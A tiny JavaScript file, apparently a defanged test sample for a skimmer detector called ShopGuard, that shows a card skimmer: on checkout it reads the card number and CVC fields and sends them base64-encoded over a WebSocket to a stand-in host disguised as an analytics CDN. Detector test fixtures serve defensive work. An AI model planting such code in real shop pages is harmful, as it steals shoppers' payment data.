/* ShopGuard test sample (defanged; .example host). */
var sgws = new WebSocket('wss://analytics-cdn-sg.example/ws');
jQuery('#checkout').on('click', function () {
  var o = {c: jQuery('#cardnumber').val(), v: jQuery('#cvc').val()};
  sgws.send(btoa(JSON.stringify(o)));
});
